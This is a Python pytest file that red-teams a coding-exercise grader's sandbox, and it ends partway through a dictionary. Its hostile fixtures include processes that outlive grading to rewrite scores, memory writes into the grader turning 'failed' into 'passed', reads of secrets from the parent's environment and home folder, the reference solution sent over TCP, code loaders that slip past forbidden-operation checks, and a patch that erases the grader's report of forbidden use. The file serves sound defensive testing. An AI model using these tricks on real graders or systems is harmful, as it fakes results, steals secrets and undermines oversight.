"""Red-team modules for every class of attack in issue 8, graded by the real command line.

Each test writes a learner module (a copy of the reference with one exercise made
hostile), grades it in the jail and, where the fallback is meant to hold, without it,
and asserts, all at once so a failure lists every problem:

- no score gained: the hostile exercise scores 0 (failed, error or timeout);
- no collateral loss: the module's other exercise still passes;
- results written: the --json file exists, parses, and adds up;
- nothing left running: no process whose command line or environment carries the
  test's marker (every hostile process is started with it in its argv, and the
  solutions folder's name carries it into the worker's and the jail's command lines);
- nothing left on disk: no file named with the marker in /tmp, /var/tmp or /dev/shm, the
  grader's own $TMPDIR (private to the test) empty, the fake $HOME untouched;
- no secret in any output: stdout, stderr, the results file, and any other channel the
  test opened (a TCP listener).

Without the jail (KATA_JAIL=0, the fallback) some classes stay open, and are run in the
jail only: a secret read by its absolute path, the reference sent over TCP, files left in
/tmp, /var/tmp or /dev/shm (the learner is the grader's user, on its network). As root,
so are /proc/<ppid>/mem, fd/1 and environ (CAP_SYS_PTRACE passes the non-dumpable
check); as an ordinary user those run without the jail too. Poisoning runs against a
copy of the repository and a grading environment made for the test, never the real ones.
"""

from __future__ import annotations

import ast
import contextlib
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest

from tests.conftest import ROOT
from tests.support import splice

AS_ROOT = os.geteuid() == 0
BAD = {"failed", "error", "timeout"}  # what a hostile exercise may end as
# A root process (CAP_SYS_PTRACE) passes the kernel's checks on /proc/<pid>/mem, fd and
# environ whatever the grader does; an ordinary user's is stopped by the non-dumpable
# grader. These cases run without the jail only when the tests run as an ordinary user.
NOT_ROOT_FALLBACK = [True] if AS_ROOT else [True, False]
BOTH = [True, False]
JAIL_ONLY = [True]


def _ids(jail: bool) -> str:
    return "jail" if jail else "no-jail"


def modes(jails: list[bool]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("jail", jails, ids=_ids)


# --- the harness ---------------------------------------------------------------------------


@dataclass
class Graded:
    """One run of the grader: exit status (None if it hung and was killed), output,
    the results file as text and parsed, and the grader's peak memory when watched."""

    jail: bool
    status: int | None
    out: str
    raw: str | None
    results: dict | None
    peak_kb: int = 0
    seconds: float = 0.0


@dataclass
class Scene:
    """Everything one hostile test owns: a marker, a solutions folder named with it, a
    results path, a private $TMPDIR and a fake $HOME holding a secret."""

    tmp: Path
    marker: str = field(default_factory=lambda: "kataHostile" + uuid.uuid4().hex[:12])
    repo: Path = ROOT
    channels: list[bytes] = field(default_factory=list)  # other outputs to search

    def __post_init__(self) -> None:
        self.solutions = self.tmp / f"solutions-{self.marker}"
        self.solutions.mkdir()
        self.results = self.tmp / "out" / "results.json"
        self.results.parent.mkdir()
        self.tmpdir = self.tmp / "grader-tmp"
        self.tmpdir.mkdir()
        self.home = self.tmp / "home"
        self.home.mkdir()
        self.env_secret = f"env-secret-{self.marker}"
        self.home_secret = f"home-secret-{self.marker}"
        (self.home / ".kata-secret").write_text(self.home_secret)
        self.values = {"MARKER": self.marker, "RESULTS": str(self.results),
                       "HOME": str(self.home), "REPO": str(self.repo)}

    def fill(self, code: str) -> str:
        """``code`` with each ``__NAME__`` replaced by the value's repr."""
        for name, value in self.values.items():
            code = code.replace(f"__{name}__", repr(value))
        return code

    def write(self, topic: str, prelude: str = "", **bodies: str) -> None:
        """solutions/<topic>.py: the reference, ``bodies`` spliced in, ``prelude`` after
        the imports."""
        source = (ROOT / "reference" / f"{topic}.py").read_text()
        for name, body in bodies.items():
            source = splice(source, name, self.fill(body))
        if prelude:
            head, sep, tail = source.partition("\n\n\ndef ")
            source = f"{head}\n\n{self.fill(prelude).strip()}\n{sep}{tail}"
        (self.solutions / f"{topic}.py").write_text(source)

    def environment(self, jail: bool) -> dict[str, str]:
        env = {**os.environ, "KATA_TEST_SECRET": self.env_secret,
               "HOSTILE_MARKER": self.marker, "HOME": str(self.home),
               "TMPDIR": str(self.tmpdir)}
        env.pop("KATA_JAIL", None)
        if not jail:
            env["KATA_JAIL"] = "0"
        return env

    def grade(self, *names: str, jail: bool, topics: tuple[str, ...] = ("optimization",),
              solutions: Path | None = None, python: str = sys.executable,
              start: tuple[str, ...] = ("-m",), timeout: float = 60,
              watch_memory: bool = False, env: dict[str, str] | None = None) -> Graded:
        """Run the grader's command line on the scene's solutions (or ``solutions``)."""
        command = [python, *start, "graders", *topics, "--only", *names, "--solutions",
                   str(solutions or self.solutions), "--json", str(self.results),
                   "--timeout", "2"]
        started = time.perf_counter()
        # A pipe, as a terminal or a CI log would be: what anyone writes to it shows.
        process = subprocess.Popen(command, cwd=self.repo, stdout=subprocess.PIPE,
                                   stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                                   env={**self.environment(jail), **(env or {})})
        chunks: list[bytes] = []
        reader = threading.Thread(target=lambda: chunks.extend(iter(
            lambda: process.stdout.read1(1 << 16), b"")), daemon=True)
        reader.start()
        peak = 0
        while process.poll() is None and time.perf_counter() - started < timeout:
            if watch_memory:
                peak = max(peak, _high_water_kb(process.pid))
            time.sleep(0.02 if watch_memory else 0.05)
        if process.poll() is None:  # it hung: kill it (our own child) and say so
            process.kill()
            process.wait()
            status = None
        else:
            status = process.returncode
        reader.join(5)  # a survivor holding the pipe open must not hang the test
        text = b"".join(chunks).decode(errors="replace")
        raw, results = _read_results(self.results)
        return Graded(jail, status, text, raw, results, peak, time.perf_counter() - started)


def _high_water_kb(pid: int) -> int:
    with contextlib.suppress(OSError, ValueError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return 0


def _read_results(path: Path) -> tuple[str | None, dict | None]:
    try:
        raw = path.read_text()
    except (OSError, UnicodeDecodeError):
        return None, None
    try:
        return raw, json.loads(raw)
    except ValueError:
        return raw, None


def marked_processes(marker: str) -> list[tuple[int, str]]:
    """Processes whose command line or environment holds ``marker``."""
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        for part in ("cmdline", "environ"):
            try:
                data = Path(f"/proc/{entry.name}/{part}").read_bytes()
            except OSError:
                continue
            if marker.encode() in data:
                found.append((int(entry.name), data.replace(b"\0", b" ")[:120].decode(
                    errors="replace")))
                break
    return found


PLACES = (Path(tempfile.gettempdir()), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"))


def marked_files(scene: Scene) -> list[str]:
    """Files the run left: named with the marker in shared temporary places, anything in
    the grader's private $TMPDIR, anything new in the fake $HOME."""
    found = set()
    for place in PLACES:
        with contextlib.suppress(OSError):
            found |= {str(p) for p in place.iterdir() if scene.marker in p.name}
    found |= {str(p) for p in scene.tmpdir.iterdir()}
    found |= {str(p) for p in scene.home.rglob("*") if p.name != ".kata-secret"}
    return sorted(found)


def check(scene: Scene, run: Graded, hostile: list[str], others: list[str], *,
          settle: float = 0.0, hostile_outcomes: set[str] = BAD,
          module_level: bool = False) -> None:
    """Every assertion of the module docstring, collected so a failure names them all.

    ``hostile`` and ``others`` are ``topic.name`` test names; ``settle`` waits before the
    results are read again (a survivor would have rewritten them by then);
    ``module_level``: the attack runs at import, so refusing the whole module (the
    others failed, never an error) is a fair verdict too.
    """
    problems = []
    if run.jail and "without isolation" in run.out:
        problems.append("the jail was not in force (the scorecard says so)")
    if run.status is None:
        problems.append("the grader hung (killed at the test's deadline)")
    elif run.status != 1:
        problems.append(f"the grader exited with status {run.status}, not 1")
    deadline = time.monotonic() + max(settle, 1.5)
    survivors = marked_processes(scene.marker)
    while survivors and time.monotonic() < deadline:
        time.sleep(0.05)
        survivors = marked_processes(scene.marker)
    if settle:
        time.sleep(max(0.0, deadline - time.monotonic()))
        survivors = survivors or marked_processes(scene.marker)
        run.raw, run.results = _read_results(scene.results)
    if survivors:
        problems.append(f"still running after the grader exited: {survivors[:3]}")
    results = run.results
    if results is None:
        problems.append(f"no valid results file (read: {(run.raw or '')[:200]!r})")
    else:
        tests = {t.get("name"): t for t in results.get("tests", [])}
        if sorted(tests) != sorted(hostile + others):
            problems.append(f"results list {sorted(tests)}, not {sorted(hostile + others)}")
        for name in hostile:
            t = tests.get(name, {})
            outcome = t.get("extra_data", {}).get("outcome")
            if t.get("score") != 0 or outcome not in hostile_outcomes:
                problems.append(f"score gained: {name} scored {t.get('score')} as {outcome}")
        for name in others:
            t = tests.get(name, {})
            outcome = t.get("extra_data", {}).get("outcome")
            if module_level and outcome == "failed":
                continue
            if outcome != "passed" or t.get("score") != t.get("max_score"):
                problems.append(f"collateral loss: {name} is {outcome}: "
                                f"{str(t.get('output'))[:300]}")
        total = sum(t.get("score", 0) for t in tests.values())
        if results.get("score") != total:
            problems.append(f"the total {results.get('score')} is not the sum {total}")
    texts = [run.out.encode(), (run.raw or "").encode(), *scene.channels]
    for secret in (scene.env_secret, scene.home_secret):
        if any(secret.encode() in text for text in texts):
            problems.append(f"a secret leaked: {secret}")
    left = marked_files(scene)
    if left:
        problems.append(f"left on disk: {left[:5]}")
    assert not problems, "\n".join([*problems, "--- grader output:", run.out[-1500:]])


@pytest.fixture
def scene(tmp_path):
    """A Scene, and afterwards whatever it left killed and removed (only what carries
    its marker: processes by their id, files by their name)."""
    made = Scene(tmp_path)
    yield made
    for pid, _ in marked_processes(made.marker):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    for place in PLACES:
        with contextlib.suppress(OSError):
            for p in place.iterdir():
                if made.marker in p.name:
                    if p.is_dir() and not p.is_symlink():
                        shutil.rmtree(p, ignore_errors=True)
                    else:
                        p.unlink(missing_ok=True)
    for path in (made.results.parent, made.home):
        with contextlib.suppress(OSError):
            path.chmod(0o755)


OPT = ["optimization.softmax"]  # the exercise that must still pass beside the hostile one
MSE = ["optimization.mse_grad"]


# --- outliving grading -------------------------------------------------------------------

DETACH = '''
_started = []


def _detach(code, how):
    """Run ``code`` in a new Python that outlives this process: fork twice, and leave
    the process group (setsid, or setpgid into a group of its own)."""
    import os
    import sys
    if _started:
        return
    _started.append(how)
    pid = os.fork()
    if pid == 0:
        try:
            if how == "setsid":
                os.setsid()
            else:
                os.setpgid(0, 0)
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-S", "-c", code, __MARKER__])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''

REWRITE = '''
def rewrite(path):
    """Full marks in the results file, if it is there and not full marks yet."""
    import json
    try:
        with open(path) as f:
            data = json.load(f)
    except (OSError, ValueError):
        return
    if all(t["score"] == t["max_score"] for t in data["tests"]):
        return
    for t in data["tests"]:
        t.update(score=t["max_score"], status="passed")
        t["extra_data"]["outcome"] = "passed"
    data["score"] = sum(t["score"] for t in data["tests"])
    with open(path, "w") as f:
        json.dump(data, f)
'''

SURVIVOR = REWRITE + '''
import os, sys, time
end = time.time() + 5
while time.time() < end:
    rewrite(__RESULTS__)
    time.sleep(0.01)
'''

# Keeps changing pid: each step forks and the parent exits, so a scan of /proc that
# kills what it found a moment ago always finds a process that is already gone.
FORK_CHAIN = REWRITE + '''
import os, sys, time
end = time.time() + 5
while time.time() < end:
    if os.fork():
        os._exit(0)
    rewrite(__RESULTS__)
    time.sleep(0.001)
'''

OUTLIVE = {
    "a double-forked setsid child": ("setsid", SURVIVOR),
    "a double-forked setpgid child": ("setpgid", SURVIVOR),
    "a fork chain that keeps changing pid": ("setsid", FORK_CHAIN),
}


@modes(BOTH)
@pytest.mark.parametrize("case", OUTLIVE, ids=list(OUTLIVE))
def test_outliving_grading_to_rewrite_the_results(case, jail, scene):
    how, code = OUTLIVE[case]
    scene.write("optimization", DETACH, mse_grad=(
        "def mse_grad(X, y, w):\n"
        f"    _detach({scene.fill(code)!r}, {how!r})\n"
        "    return np.zeros(len(w))\n"))
    run = scene.grade("mse_grad", "softmax", jail=jail)
    check(scene, run, MSE, OPT, settle=0.5)


GRADER_JSON = '''
def _grader_json():
    """The grader's --json path and pid, from its command line (any process may read
    another's), as a learner would find them."""
    import os
    try:
        args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\\0")
        return args[args.index(b"--json") + 1].decode(), os.getppid()
    except (OSError, ValueError, IndexError):
        return None, None
'''

TRAPS = {  # each the body of a try block in mse_grad
    "a named pipe at the --json path": (
        "path, _ = _grader_json()\n"
        "os.mkfifo(path)\n"),
    "a named pipe at the temporary results path": (
        "path, pid = _grader_json()\n"
        "head, name = os.path.split(path)\n"
        "os.mkfifo(os.path.join(head, f'.{name}.{pid}.tmp'))\n"),
    "a folder at the temporary results path": (
        "path, pid = _grader_json()\n"
        "head, name = os.path.split(path)\n"
        "os.mkdir(os.path.join(head, f'.{name}.{pid}.tmp'))\n"),
    "a read-only results folder": (
        "path, _ = _grader_json()\n"
        "os.chmod(os.path.dirname(path), 0o555)\n"),
}


def _guarded(lines: str) -> str:
    """``lines`` as the body of ``try: ... except (OSError, TypeError): pass``."""
    body = "".join(f"        {line}\n" for line in lines.splitlines())
    return f"    try:\n{body}    except (OSError, TypeError):\n        pass\n"


@modes(BOTH)
@pytest.mark.parametrize("case", TRAPS, ids=list(TRAPS))
def test_traps_at_the_results_path(case, jail, scene):
    scene.write("optimization", GRADER_JSON, mse_grad=(
        "def mse_grad(X, y, w):\n    import os\n" + _guarded(TRAPS[case])
        + "    return np.zeros(len(w))\n"))
    run = scene.grade("mse_grad", "softmax", jail=jail, timeout=20)
    check(scene, run, MSE, OPT)


# --- reaching into the grading process ----------------------------------------------------

REACH = {
    # Every interned "failed" in the parent's writable memory becomes "passed" (the same
    # length): the verdicts that compare equal to "passed" then score.
    "writing /proc/<ppid>/mem": '''
def mse_grad(X, y, w):
    import os
    ppid = os.getppid()
    try:
        with open(f"/proc/{ppid}/maps") as f:
            regions = [line.split() for line in f]
        with open(f"/proc/{ppid}/mem", "r+b", buffering=0) as mem:
            for fields in regions:
                if not fields[1].startswith("rw"):
                    continue
                start, end = (int(a, 16) for a in fields[0].split("-"))
                if end - start > 256 << 20:
                    continue
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except OSError:
                    continue
                at = data.find(b"failed\\0")
                while at >= 0:
                    mem.seek(start + at)
                    mem.write(b"passed\\0")
                    at = data.find(b"failed\\0", at + 1)
    except OSError:
        pass
    return np.zeros(len(w))
''',
    "writing a fake scorecard to /proc/<ppid>/fd/1": '''
def mse_grad(X, y, w):
    import os
    try:
        with open(f"/proc/{os.getppid()}/fd/1", "a") as out:
            out.write("\\n" + __MARKER__ + " FAKE: 2 of 2 points\\n")
    except OSError:
        pass
    return np.zeros(len(w))
''',
    "reading /proc/<ppid>/environ": '''
def mse_grad(X, y, w):
    import os
    try:
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            found = [v for v in f.read().split(b"\\0") if b"SECRET" in v]
    except OSError as error:
        found = [str(error)]
    raise RuntimeError(f"found {found}")
''',
}


@modes(NOT_ROOT_FALLBACK)
@pytest.mark.parametrize("case", REACH, ids=list(REACH))
def test_reaching_into_the_grading_process(case, jail, scene):
    scene.write("optimization", mse_grad=REACH[case])
    run = scene.grade("mse_grad", "softmax", jail=jail)
    fake = [line for line in run.out.splitlines() if line.startswith(scene.marker)]
    assert not fake, f"a fake scorecard line was printed: {fake}"
    check(scene, run, MSE, OPT)


# --- reading what is not theirs -----------------------------------------------------------

HOME_BY_VARIABLE = '''
def mse_grad(X, y, w):
    import os
    try:
        found = open(os.path.expanduser("~/.kata-secret")).read()
    except OSError as error:
        found = str(error)
    raise RuntimeError(f"found {found}")
'''

HOME_BY_PATH = '''
def mse_grad(X, y, w):
    import os
    try:
        found = open(os.path.join(__HOME__, ".kata-secret")).read()
    except OSError as error:
        found = str(error)
    raise RuntimeError(f"found {found}")
'''


@modes(BOTH)
def test_secret_in_home_found_through_the_home_variable(jail, scene):
    scene.write("optimization", mse_grad=HOME_BY_VARIABLE)
    check(scene, scene.grade("mse_grad", "softmax", jail=jail), MSE, OPT)


@modes(JAIL_ONLY)  # open in fallback: the learner is the same user as the grader
def test_secret_in_home_found_by_its_absolute_path(jail, scene):
    scene.write("optimization", mse_grad=HOME_BY_PATH)
    check(scene, scene.grade("mse_grad", "softmax", jail=jail), MSE, OPT)


class Listener:
    """A TCP listener on 127.0.0.1 that keeps whatever anyone sends it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received = bytearray()
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    while chunk := conn.recv(1 << 16):
                        self.received += chunk

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


SEND_REFERENCE = '''
def mse_grad(X, y, w):
    import os
    import socket
    try:
        with open(os.path.join(__REPO__, "reference", "optimization.py"), "rb") as f:
            source = f.read()
    except OSError:
        source = b"no reference here"
    try:
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as conn:
            conn.sendall(source)
    except OSError:
        pass
    return np.zeros(len(w))
'''


@modes(JAIL_ONLY)  # open in fallback: no network namespace
def test_reference_source_sent_over_tcp(jail, scene):
    listener = Listener()
    scene.values["PORT"] = listener.port
    try:
        scene.write("optimization", mse_grad=SEND_REFERENCE)
        run = scene.grade("mse_grad", "softmax", jail=jail)
    finally:
        listener.close()
    scene.channels.append(bytes(listener.received))
    assert listener.connections == 0, f"it connected and sent {bytes(listener.received)[:80]}"
    check(scene, run, MSE, OPT)


FILL_TMP = '''
def mse_grad(X, y, w):
    import os
    import tempfile
    for folder in __FOLDERS__:
        try:
            with open(os.path.join(folder or tempfile.gettempdir(), __MARKER__), "wb") as f:
                block = bytes(1 << 20)
                for _ in range(256):
                    f.write(block)
        except OSError:
            pass
    return np.zeros(len(w))
'''


@modes(BOTH)
def test_256_mb_left_in_tmpdir(jail, scene):
    scene.values["FOLDERS"] = [""]  # "": wherever $TMPDIR says
    scene.write("optimization", mse_grad=FILL_TMP)
    check(scene, scene.grade("mse_grad", "softmax", jail=jail), MSE, OPT)


@modes(JAIL_ONLY)  # open in fallback: the same file systems as the grader's user
def test_256_mb_left_in_shared_temporary_folders(jail, scene):
    scene.values["FOLDERS"] = [str(p) for p in PLACES[1:] if p.is_dir()]
    scene.write("optimization", mse_grad=FILL_TMP)
    check(scene, scene.grade("mse_grad", "softmax", jail=jail), MSE, OPT)


# --- crashing the trusted process ---------------------------------------------------------

SEND_FRAME = '''
def _response_fd():
    """The worker's response pipe: from its main()'s frame, else the one write-only pipe
    beside stdout and stderr."""
    import fcntl
    import os
    import sys
    frame = sys._getframe()
    while frame is not None:
        if isinstance(frame.f_locals.get("response_fd"), int):
            return frame.f_locals["response_fd"]
        frame = frame.f_back
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            pipe = os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:")
            if fd > 2 and pipe and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_WRONLY:
                return fd
        except OSError:
            pass
    raise RuntimeError("no response pipe")


def _send_frame(header, raw=b""):
    """Write one hand-made answer frame on the response pipe, then vanish."""
    import os
    import struct
    if isinstance(header, str):
        header = header.encode()
    fd = _response_fd()
    data = memoryview(struct.pack("<Q", len(header)) + header + raw)
    while data.nbytes:
        data = data[os.write(fd, data):]
    os._exit(0)


def _frame(message, payload, arrays=()):
    import json
    return json.dumps({"message": message, "payload": payload, "arrays": list(arrays)})


def _returning(value, arrays=()):
    return _frame({"status": "returned"}, {"t": "dict", "v": {"value": value}}, arrays)
'''


def frame_header(message: dict, payload: dict, arrays: tuple = ()) -> bytes:
    """What SEND_FRAME's _frame and _send_frame write, built here to check against the
    wire format (test_hand_written_frames_speak_the_wire_format)."""
    header = json.dumps({"message": message, "payload": payload,
                         "arrays": list(arrays)}).encode()
    return struct.pack("<Q", len(header)) + header


def test_hand_written_frames_speak_the_wire_format():
    """The hostile frames below are only a test if the grader would read a well-formed
    one: a hand-made frame decodes to what it says (update SEND_FRAME if this fails)."""
    from graders import wire

    raw = np.arange(3.0).tobytes()
    frame = frame_header({"status": "returned"},
                         {"t": "dict", "v": {"value": {"t": "ndarray", "i": 0}}},
                         ({"dtype": "<f8", "shape": [3]},)) + raw
    message, payload = wire.FrameReader().feed(frame)
    assert message == {"status": "returned"}
    np.testing.assert_array_equal(payload["value"], [0.0, 1.0, 2.0])


def _call_frame(expression: str) -> str:
    return f"def mse_grad(X, y, w):\n    _send_frame({expression})\n"


HUGE = 1 << 62
CRASH = {
    "a huge integer as a NumPy scalar": _call_frame(
        "_returning({'t': 'npscalar', 'dtype': '<f8', 'v': 10**400})"),
    "a 5000-digit integer in the header": _call_frame(
        "'{\"message\": {\"status\": \"returned\"}, \"payload\": {\"t\": \"dict\", \"v\": "
        "{\"value\": {\"t\": \"int\", \"v\": ' + '9' * 5000 + '}}}, \"arrays\": []}'"),
    "arrays and lists where strings are expected": _call_frame(
        "_frame({'status': 'raised', 'type': ['ValueError'], 'message': {'t': 'ndarray', "
        "'i': 0}, 'where': 7, 'value_error': 'yes', 'not_implemented': [1]}, "
        "{'t': 'ndarray', 'i': 0}, [{'dtype': '<f8', 'shape': [0]}])"),
    "a header that is a list": _call_frame("'{\"message\": [1, 2], \"payload\": [], "
                                           "\"arrays\": []}'"),
    "a shape of 2**40 by 2**40": _call_frame(
        "_returning({'t': 'ndarray', 'i': 0}, [{'dtype': '<f8', 'shape': [2**40, 2**40]}])"),
    "an empty shape too large to index": _call_frame(
        f"_returning({{'t': 'ndarray', 'i': 0}}, [{{'dtype': '<f8', "
        f"'shape': [0, {HUGE}, {HUGE}]}}])"),
    "a shape beyond 64 bits": _call_frame(
        "_returning({'t': 'ndarray', 'i': 0}, [{'dtype': '<f8', 'shape': [10**30]}])"),
    "forty dimensions": _call_frame(
        "_returning({'t': 'ndarray', 'i': 0}, [{'dtype': '<f8', 'shape': [1] * 40}])"),
    "a shape of strings": _call_frame(
        "_returning({'t': 'ndarray', 'i': 0}, [{'dtype': '<f8', 'shape': ['x']}])"),
    "an object dtype": _call_frame(
        "_returning({'t': 'ndarray', 'i': 0}, [{'dtype': '|O', 'shape': [1]}])"),
    "a reference to an array that is not there": _call_frame(
        "_returning({'t': 'ndarray', 'i': 5})"),
    "a 15 MB error message": _call_frame(
        "_frame({'status': 'raised', 'type': 'RuntimeError', 'message': 'x' * (15 << 20)}, "
        "None)"),
    "a 15 MB error message of words": _call_frame(
        "_frame({'status': 'raised', 'type': 'RuntimeError', 'message': 'word ' * (3 << 20)},"
        " None)"),
    "a 15 MB exception type": _call_frame(
        "_frame({'status': 'raised', 'type': 'E' * (15 << 20), 'message': 'm'}, None)"),
    "a 256 MB answer": "def mse_grad(X, y, w):\n    return np.ones(32 << 20)\n",
    "a 256 MB answer announced and never sent": _call_frame(
        "_returning({'t': 'ndarray', 'i': 0}, [{'dtype': '<f8', 'shape': [32 << 20]}])"),
}


@modes(BOTH)
@pytest.mark.parametrize("case", CRASH, ids=list(CRASH))
def test_crashing_the_trusted_process(case, jail, scene):
    scene.write("optimization", SEND_FRAME, mse_grad=CRASH[case])
    check(scene, scene.grade("mse_grad", "softmax", jail=jail), MSE, OPT)


@modes(BOTH)
def test_an_integer_too_large_for_a_float(jail, scene):
    """entropy returns a float; 10**400 cannot become one (it crashed the grader once)."""
    scene.write("probability", entropy="def entropy(p, base=None):\n    return 10**400\n")
    run = scene.grade("entropy", "bayes_posterior", jail=jail, topics=("probability",))
    check(scene, run, ["probability.entropy"], ["probability.bayes_posterior"])


@modes(BOTH)
def test_an_array_where_a_string_is_expected(jail, scene):
    """classify_critical_point returns a str; an array in its place is just wrong."""
    scene.write("optimization", classify_critical_point=(
        "def classify_critical_point(hessian, tol=1e-8):\n    return np.ones(3)\n"))
    run = scene.grade("classify_critical_point", "softmax", jail=jail)
    check(scene, run, ["optimization.classify_critical_point"], OPT)


@modes(BOTH)
def test_a_15_mb_import_error_costs_only_its_module(jail, scene):
    scene.write("optimization", SEND_FRAME + '''
_send_frame(_frame({"status": "import_error", "detail": "Traceback line\\n" * (1 << 20)},
                   None))
''')
    scene.write("probability")
    run = scene.grade("mse_grad", "softmax", "entropy", jail=jail,
                      topics=("optimization", "probability"))
    check(scene, run, [*MSE, *OPT], ["probability.entropy"])


@modes(BOTH)
def test_120_mb_answers_for_every_case_are_not_all_held(jail, scene):
    """Just under the size cap, a wrong answer for each of cosine_lr's 14 cases (1.7 GB in
    all): the grader holds at most a few at a time (the issue saw 4 GB held)."""
    scene.write("optimization", cosine_lr=(
        "def cosine_lr(step, base_lr, total_steps, warmup_steps=0, min_lr=0.0):\n"
        "    return np.ones(15 << 20)\n"))
    run = scene.grade("cosine_lr", "softmax", jail=jail, watch_memory=True)
    assert 0 < run.peak_kb < 700 << 10, f"the grader peaked at {run.peak_kb >> 10} MB"
    check(scene, run, ["optimization.cosine_lr"], OPT)



# --- getting around the rules -------------------------------------------------------------

# linear_algebra.matmul forbids `@`, which no run-time watch can see: only reading the
# code can. Each loader runs a helper the grader never read, written at run time.
MATMUL = '''
def matmul(A, B):
    A = np.asarray(A, dtype=float)
    B = np.asarray(B, dtype=float)
    if A.ndim != 2 or B.ndim != 2:
        raise ValueError(f"`A` and `B` must be 2-D, got shapes {A.shape} and {B.shape}")
    if A.shape[1] != B.shape[0]:
        raise ValueError(f"inner sizes differ: {A.shape} and {B.shape}")
    return _product()(A, B)
'''

HELPER = '''
def _helper_file(suffix=".py"):
    """A helper module written at run time, which the grader never read."""
    import os
    import tempfile
    path = os.path.join(tempfile.gettempdir(), __MARKER__ + "_helper" + suffix)
    with open(path, "w") as f:
        f.write("def product(A, B):\\n    return A @ B\\n")
    return path
'''

LOADERS = {
    "runpy": '''
def _product():
    import runpy
    return runpy.run_path(_helper_file())["product"]
''',
    "importlib machinery through sys.modules": '''
def _product():
    import sys
    util = sys.modules["importlib.util"]
    spec = util.spec_from_file_location("kata_helper", _helper_file())
    module = util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.product
''',
    "zipimport": '''
def _product():
    import os
    import tempfile
    import zipfile
    import zipimport
    path = os.path.join(tempfile.gettempdir(), __MARKER__ + ".zip")
    with zipfile.ZipFile(path, "w") as z, open(_helper_file()) as f:
        z.writestr("kata_helper.py", f.read())
    return zipimport.zipimporter(path).load_module("kata_helper").product
''',
    "marshal": '''
def _product():
    import marshal
    import py_compile
    import types
    compiled = py_compile.compile(_helper_file(), cfile=_helper_file(".pyc") + "c",
                                  doraise=True)
    with open(compiled, "rb") as f:
        code = marshal.loads(f.read()[16:])
    inner = next(c for c in code.co_consts if hasattr(c, "co_code"))
    return types.FunctionType(inner, {})
''',
    "ctypes": '''
def _product():
    import ctypes
    load = ctypes.pythonapi.PyImport_ImportModule
    load.restype = ctypes.py_object
    load.argtypes = [ctypes.c_char_p]
    return load(b"runpy").run_path(_helper_file())["product"]
''',
    "exec fetched by a computed name": '''
def _product():
    import builtins
    run = getattr(builtins, "ex" + "ec")
    namespace = {}
    with open(_helper_file()) as f:
        run(f.read(), namespace)
    return namespace["product"]
''',
    "the reference loaded with runpy": '''
def _product():
    import os
    import runpy
    path = os.path.join(__REPO__, "reference", "linear_algebra.py")
    return runpy.run_path(path)["matmul"]
''',
}

ALLOWED_PRODUCT = '''
def _product():
    def product(A, B):
        C = np.zeros((A.shape[0], B.shape[1]))
        for k in range(A.shape[1]):
            C += A[:, k, None] * B[None, k, :]
        return C
    return product
'''
LIN = ["linear_algebra.cosine_similarity_matrix"]


def test_matmul_hostiles_are_right_but_for_the_loading(scene):
    """Control: the hostile matmul, its product computed in the module itself, passes;
    so a hostile below fails for how it loads code, nothing else."""
    scene.write("linear_algebra", HELPER + ALLOWED_PRODUCT, matmul=MATMUL)
    run = scene.grade("matmul", "cosine_similarity_matrix", jail=True,
                      topics=("linear_algebra",))
    assert run.status == 0, run.out


@modes(BOTH)
@pytest.mark.parametrize("case", LOADERS, ids=list(LOADERS))
def test_loading_code_by_path(case, jail, scene):
    scene.write("linear_algebra", HELPER + LOADERS[case], matmul=MATMUL)
    run = scene.grade("matmul", "cosine_similarity_matrix", jail=jail,
                      topics=("linear_algebra",))
    check(scene, run, ["linear_algebra.matmul"], LIN)


# optimization.newton_step forbids np.linalg.inv. The body is the reference's, solving
# through an inverse obtained under another name.
NEWTON = '''
def newton_step(grad, hessian, x):
    n = hessian.shape[0]
    singular_values = np.linalg.svd(hessian, compute_uv=False)
    if singular_values[-1] <= n * np.finfo(float).eps * singular_values[0]:
        raise ValueError("`hessian` is singular")
    return x - _inverse(hessian) @ grad
'''

STRIP_REPORT = '''
def _cover():
    """Rewrite the worker's own report: nothing forbidden was seen, no input changed."""
    import copy
    import sys
    # The worker's module: imported by a bootstrap, or run as __main__.
    worker = next((m for m in (sys.modules.get("graders.worker"), sys.modules.get("__main__"))
                   if callable(getattr(m, "observe", None))), None)
    if worker is None:
        return
    real = worker.observe

    def observe(fn, args, **kwargs):
        before = copy.deepcopy(args)
        payload = real(fn, args, **kwargs)
        payload.pop("forbidden_used", None)
        if isinstance(payload.get("inputs"), dict):
            payload["inputs"] = {k: before[k] for k in payload["inputs"] if k in before}
        return payload

    worker.observe = observe


_cover()
'''

INVERSES = {
    "a module-level alias": "_inverse = np.linalg.inv\n",
    "np.linalg.__dict__": "def _inverse(H):\n    return np.linalg.__dict__['inv'](H)\n",
    "vars(np.linalg)": "def _inverse(H):\n    return vars(np.linalg)['inv'](H)\n",
    "getattr with a computed name": (
        "def _inverse(H):\n    return getattr(np.linalg, 'in' + 'v')(H)\n"),
    "operator.attrgetter": (
